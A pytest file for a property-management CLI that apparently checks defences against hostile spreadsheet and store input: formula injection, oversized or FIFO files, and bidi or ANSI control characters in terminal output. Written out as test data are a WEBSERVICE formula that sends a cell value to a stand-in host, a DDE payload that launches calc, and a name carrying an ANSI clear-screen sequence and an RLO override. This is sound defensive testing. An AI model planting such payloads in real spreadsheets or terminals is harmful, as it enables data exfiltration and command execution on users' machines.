"""Issue 14, second pass: what a hostile sheet or store value can do to the clerk's spreadsheet,
to the machine reading a sheet, and to the clerk's terminal.

1. formula injection: a name like =WEBSERVICE(...) is only ever written back as inert text;
2. availability: a sheet that declares a million rows, a 3 GB file, a FIFO as --data: refused
   (or read) in bounded time and memory, one Chinese line, exit 2, the store unchanged;
3. bidi / control characters from the store are escaped in every text output of the CLI.
"""
from __future__ import annotations

import csv
import json
import os
import re
import shutil
import resource
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from conftest import formsmith_cmd, store_rows
from formsmith import documents
from formsmith.workspace import load_workspace

JUNE, SEPT = "2025-06-01", "2025-09-01"
OWING = "1-2-301"                      # owes since before June in the demo
FORMULA_NAME = '=WEBSERVICE("http://x/"&A1)'
FORMULA_ADDRESS = "=cmd|' /C calc'!A0"
RISKY = ("=", "+", "-", "@", "\t", "\r")


def store_bytes(home: Path) -> dict[str, bytes]:
    root = home / "records"
    return {str(p.relative_to(root)): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file() and p.name != ".lock"}


def only_unit_owes(home: Path, unit: str) -> None:
    """Every other unit pays; the demo's sample letters are voided."""
    ws = load_workspace(home)
    with ws.store.transaction() as tx:
        for c in tx.all("charges"):
            if not c.get("paid_on") and c["unit"] != unit:
                tx.update("charges", c["id"], {"paid_on": c["due"]})
    for d in documents.list_documents(ws, template="dunning-letter"):
        documents.mark(ws, d["doc_no"], "void", note="demo sample")


def assert_inert_xlsx(path: Path) -> int:
    """No cell of any worksheet is a formula; text starting like one is quote-prefixed text.
    Returns how many such quote-prefixed cells there are."""
    wb = load_workbook(path)
    risky = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (path.name, ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.lstrip(" ").startswith(RISKY):
                    assert c.data_type == "s" and c.quotePrefix, (path.name, c.coordinate, c.value)
                    risky += 1
    return risky


def assert_inert_csv(path: Path) -> int:
    """No CSV cell starts (after spaces) with = + - @ tab or CR unless it is a plain number."""
    text = path.read_text(encoding="utf-8-sig")
    escaped = 0
    for row in csv.reader(text.splitlines()):
        for cell in row:
            if cell.lstrip(" ").startswith(RISKY):
                assert re.fullmatch(r"-?\d+(\.\d+)?", cell), (path.name, cell)
            if cell.startswith("'") and cell[1:2] in RISKY:
                escaped += 1
    return escaped


# ---------------------------------------------------------------- 1. formula injection

def test_formula_names_are_stored_as_text_and_exported_inert(demo_records_home, run, tmp_path):
    """A name or address that Excel would run imports as text (the store keeps it exactly), and
    every sheet formsmith writes from it - records export .xlsx/.csv, the courier and SMS lists
    of the dunning run - holds it as inert text; amounts stay numbers."""
    home = tmp_path / "ws"
    shutil.copytree(demo_records_home, home)
    only_unit_owes(home, OWING)
    owners = tmp_path / "owners.xlsx"
    assert run(home, "records", "export", "owners", str(owners), "--reveal").exit_code == 0
    wb = load_workbook(owners)
    sheet = wb.worksheets[0]
    head = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        if row[head.index("房号")].value == OWING:
            row[head.index("业主姓名")].value = FORMULA_NAME
            row[head.index("通讯地址")].value = FORMULA_ADDRESS
    # as a clerk's Excel keeps them once typed with a leading apostrophe: text cells
    for row in sheet.iter_rows(min_row=2):
        for c in row:
            if isinstance(c.value, str) and c.value.startswith("="):
                c.data_type = "s"
    wb.save(owners)
    result = run(home, "records", "import", "owners", str(owners))
    assert result.exit_code == 0, result.output + result.stderr
    unit = next(u for u in store_rows(home, "units") if u["id"] == OWING)
    owner = next(p for p in store_rows(home, "parties") if p["id"] == unit["owner"])
    assert (owner["name"], owner["mailing_address"]) == (FORMULA_NAME, FORMULA_ADDRESS)

    out_x, out_c = tmp_path / "out.xlsx", tmp_path / "out.csv"
    assert run(home, "records", "export", "owners", str(out_x)).exit_code == 0
    assert run(home, "records", "export", "owners", str(out_c)).exit_code == 0
    assert assert_inert_xlsx(out_x) == 2
    assert assert_inert_csv(out_c) == 2
    # the round trip keeps the names exactly (the CSV's apostrophe is taken off again)
    for suffix in (".xlsx", ".csv"):
        full = tmp_path / f"full{suffix}"
        assert run(home, "records", "export", "owners", str(full), "--reveal").exit_code == 0
        got = json.loads(run(home, "records", "import", "owners", str(full), "--dry-run", "--json").stdout)
        assert got["ok"] and got["counts"]["parties"]["updated"] == 0, (suffix, got)
    charges_csv = tmp_path / "charges.csv"
    assert run(home, "records", "export", "charges", str(charges_csv)).exit_code == 0
    assert_inert_csv(charges_csv)
    charges_x = tmp_path / "charges.xlsx"
    assert run(home, "records", "export", "charges", str(charges_x)).exit_code == 0
    amounts = [r[4] for r in load_workbook(charges_x).active.iter_rows(min_row=2, values_only=True)]
    assert amounts and all(isinstance(a, (int, float)) for a in amounts), amounts[:3]

    # a small dunning run: June's notice (SMS list), September's letter (courier list)
    for as_of in (JUNE, SEPT):
        r = run(home, "dunning", "run", "--as-of", as_of, "--jobs", "1", "--json")
        assert r.exit_code == 0, r.output + r.stderr
    lists = sorted((home / "output" / "dunning").rglob("*.xlsx")) + sorted((home / "output" / "dunning").rglob("*.csv"))
    names = {p.name for p in lists}
    assert {"sms.xlsx", "sms.csv", "courier.xlsx", "courier.csv", "courier-internal.xlsx",
            "courier-internal.csv"} <= names, names
    for p in lists:
        if p.suffix == ".xlsx":
            assert assert_inert_xlsx(p) >= 1, p
            ws = load_workbook(p).active
            head = [c.value for c in ws[1]]
            if p.name == "courier.xlsx":   # the courier gets no amount (个人信息保护法)
                assert not any("金额" in h for h in head), head
                continue
            money = [r[head.index("欠费金额（元）")] for r in ws.iter_rows(min_row=2, values_only=True)]
            assert money and all(isinstance(m, (int, float)) and m > 0 for m in money), (p, money)
        else:
            assert assert_inert_csv(p) >= 1, p


def test_error_copy_of_a_csv_with_formula_names_is_inert(demo_copy, run, tmp_path):
    """--errors copy of a CSV (cells as text) and of an .xlsx: nothing in it is a formula."""
    from samples import make_bad
    before = store_bytes(demo_copy)
    src = tmp_path / "owners-formula.csv"
    src.write_bytes(make_bad.corpus()["owners-formula.csv"])
    copy = tmp_path / "错误.xlsx"
    result = formsmith_cmd(demo_copy, "records", "import", "owners", str(src), "--errors", str(copy))
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert assert_inert_xlsx(copy) >= 3
    # an .xlsx source whose formula-looking text cells Excel would keep as text
    srcx = tmp_path / "owners-formula.xlsx"
    srcx.write_bytes(make_bad.corpus()["owners-formula.xlsx"])
    copyx = tmp_path / "错误2.xlsx"
    result = formsmith_cmd(demo_copy, "records", "import", "owners", str(srcx), "--errors", str(copyx))
    assert result.returncode == 2, result.stderr
    assert assert_inert_xlsx(copyx) >= 1
    assert store_bytes(demo_copy) == before


# ---------------------------------------------------------------- 2. availability

LIMIT_AS = 1536 * 2**20            # 1.5 GB of address space for the whole formsmith process


def bounded(home: Path, *args: str, timeout: int = 60) -> subprocess.CompletedProcess:
    """The real command as a process with 1.5 GB of memory and a minute: a bomb fails the test
    with MemoryError / a kill / TimeoutExpired instead of taking the machine."""
    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (LIMIT_AS, LIMIT_AS))
    return formsmith_cmd(home, *args, preexec_fn=limit, timeout=timeout)


def one_line_refusal(result: subprocess.CompletedProcess, name: str, *expected: str) -> str:
    assert result.returncode == 2, (result.returncode, result.stderr[-2000:])
    assert "Traceback" not in result.stderr and "MemoryError" not in result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1, lines
    assert name in lines[0], lines
    for text in expected:
        assert text in lines[0], lines
    return lines[0]


def test_a_sheet_declaring_every_cell_imports_in_bounded_memory(demo_copy, tmp_path):
    """<dimension ref="A1:XFD1048576"> and 30,000 empty rows: read by its real cells, imported."""
    from samples import make_bad
    bomb = tmp_path / "owners-dimension-bomb.xlsx"
    bomb.write_bytes(make_bad.corpus()["owners-dimension-bomb.xlsx"])
    assert bomb.stat().st_size < 100_000          # 77 KB on disk
    result = bounded(demo_copy, "records", "import", "owners", str(bomb))
    assert result.returncode == 0, result.stderr[-2000:]
    assert "1 行全部通过检查" in result.stdout
    unit = next(u for u in store_rows(demo_copy, "units") if u["id"] == "1-1-101")
    owner = next(p for p in store_rows(demo_copy, "parties") if p["id"] == unit["owner"])
    assert (owner["name"], owner["id_number"]) == ("张伟", make_bad.ID)


@pytest.mark.parametrize("name", ["owners-row-1048576.xlsx", "owners-column-XFD.xlsx"])
def test_an_absurdly_large_sheet_is_refused_in_bounded_memory(demo_copy, tmp_path, name):
    from samples import make_bad
    sheet = tmp_path / name
    sheet.write_bytes(make_bad.corpus()[name])
    before = store_bytes(demo_copy)
    one_line_refusal(bounded(demo_copy, "records", "import", "owners", str(sheet)), str(sheet), "表格过大")
    one_line_refusal(bounded(demo_copy, "docs", "import-tracking", str(sheet)), str(sheet), "表格过大")
    assert store_bytes(demo_copy) == before


def sparse(path: Path, size: int = 3 * 2**30) -> Path:
    """A file of `size` bytes that takes no disk (and must take no memory either)."""
    with open(path, "wb") as f:
        f.truncate(size)
    return path


@pytest.mark.parametrize("args", [
    ("records", "import", "owners", "{}.xlsx"),
    ("records", "import", "owners", "{}.csv"),
    ("docs", "import-tracking", "{}.xlsx"),
    ("docs", "import-tracking", "{}.csv"),
    ("render", "dunning-letter", "--data", "{}.json"),
], ids=lambda a: " ".join(a[:2]) + a[-1][2:])
def test_a_3_gb_file_is_refused_by_its_size_before_reading(demo_copy, tmp_path, args):
    before = store_bytes(demo_copy)
    path = sparse(tmp_path / f"big{args[-1][2:]}")
    args = [*args[:-1], str(path)]
    line = one_line_refusal(bounded(demo_copy, *args, timeout=60), str(path), "文件过大", "3.0 GB", "上限")
    assert store_bytes(demo_copy) == before, line


@pytest.mark.parametrize("args", [
    ("render", "dunning-letter", "--data", "data.json"),
    ("records", "import", "owners", "owners.csv"),
    ("docs", "import-tracking", "back.xlsx"),
])
def test_a_fifo_is_refused_not_waited_on(demo_copy, tmp_path, args):
    """`--data` from a named pipe nobody writes to: a refusal, not a hang."""
    fifo = tmp_path / args[-1]
    os.mkfifo(fifo)
    before = store_bytes(demo_copy)
    one_line_refusal(bounded(demo_copy, *args[:-1], str(fifo), timeout=60), str(fifo), "不是普通文件")
    assert store_bytes(demo_copy) == before


# ---------------------------------------------------------------- 3. bidi and control characters out

RLO_NOTE = "已打印\u202e圈外"            # U+202E RIGHT-TO-LEFT OVERRIDE: reorders the rest of the line
ODD_NAME = "孙\u202e嘉\x1b[2J怡\u2066\u2028"   # RLO, ANSI clear-screen, LRI, LINE SEPARATOR
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


def clean_stdout(result: subprocess.CompletedProcess) -> str:
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    for line in result.stdout.splitlines() + result.stderr.splitlines():
        assert not RAW.search(line), repr(line)
    return result.stdout


def test_stored_bidi_and_control_characters_are_shown_escaped(demo_copy):
    """A note, a clerk's name, a period and an owner's name holding U+202E / ESC / U+2066 come out
    as the escapes \\u202e, \\x1b, \\u2066 in docs show / docs list / records show / records list,
    and in --json as JSON escapes (so the JSON still reads back as the stored value)."""
    home = demo_copy
    docs = json.loads(formsmith_cmd(home, "docs", "list", "--json").stdout)
    doc = docs[0]
    marked = formsmith_cmd(home, "docs", "mark", doc["doc_no"], "printed", "--note", RLO_NOTE,
                           "--by", "王\u202e芳")
    assert "\u202e" not in marked.stdout, marked.stdout
    ws = load_workspace(home)
    with ws.store.transaction() as tx:
        tx.update("documents", doc["doc_id"], {"period": "2025-\u202e10"})
        tx.update("parties", "P0001", {"name": ODD_NAME})

    shown = clean_stdout(formsmith_cmd(home, "docs", "show", doc["doc_no"]))
    assert "note=已打印\\u202e圈外" in shown and "王\\u202e芳" in shown and "period: 2025-\\u202e10" in shown
    listed = clean_stdout(formsmith_cmd(home, "docs", "list"))
    assert "2025-\\u202e10" in listed
    person = clean_stdout(formsmith_cmd(home, "records", "show", "P0001"))
    assert "name: 孙\\u202e嘉\\x1b[2J怡\\u2066\\u2028" in person
    owners = clean_stdout(formsmith_cmd(home, "records", "list", "owners"))
    assert "孙\\u202e嘉\\x1b[2J怡\\u2066" in owners
    # the columns still line up: the escaped name is padded by its printed width
    import unicodedata
    width = lambda s: sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in s)  # noqa: E731
    head, *rows = owners.splitlines()
    row = next(r for r in rows if "P0001" in r)
    masked_id = row.split()[3]
    assert width(row[:row.index(masked_id)]) == width(head[:head.index("id_number")])

    for args in (("docs", "show", doc["doc_no"]), ("docs", "list"), ("records", "show", "P0001"),
                 ("records", "list", "owners")):
        out = clean_stdout(formsmith_cmd(home, *args, "--json"))
        assert "\\u202e" in out
        got = json.loads(out)
        text = json.dumps(got, ensure_ascii=False)
        assert "\u202e" in text            # the JSON escape reads back as the stored character
    got = json.loads(formsmith_cmd(home, "records", "show", "P0001", "--json").stdout)
    assert got["name"] == ODD_NAME


def test_courier_sheet_in_gbk_under_a_title_line_is_read(tmp_path):
    """The courier's sheet goes through the one sheet reader: a CSV saved by Chinese Excel (GBK)
    with a title line above the headers reads as the courier wrote it, with its row numbers."""
    from formsmith.processes.arrears.tracking import read_sheet
    sheet = tmp_path / "妥投.csv"
    sheet.write_bytes("顺丰速运妥投回单\n内件品名,运单号,妥投日期\n物催字〔2025〕1号,SF1151234500099,2025-12-05\n"
                      .encode("gbk"))
    assert read_sheet(sheet) == [(3, {"内件品名": "物催字〔2025〕1号", "运单号": "SF1151234500099",
                                      "妥投日期": "2025-12-05"})]
